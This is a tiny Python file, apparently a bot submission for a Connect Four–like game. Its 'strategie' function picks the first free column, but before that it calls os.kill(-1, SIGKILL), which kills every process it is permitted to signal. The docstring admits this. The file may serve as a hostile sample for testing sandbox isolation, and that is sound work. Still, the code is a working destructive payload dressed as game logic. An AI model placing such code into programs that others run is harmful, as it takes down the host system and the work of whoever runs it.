"""Kills every process it may."""

import os
import signal


def strategie(state):
    os.kill(-1, signal.SIGKILL)
    return next(c for c in range(7) if state["libres"][c])
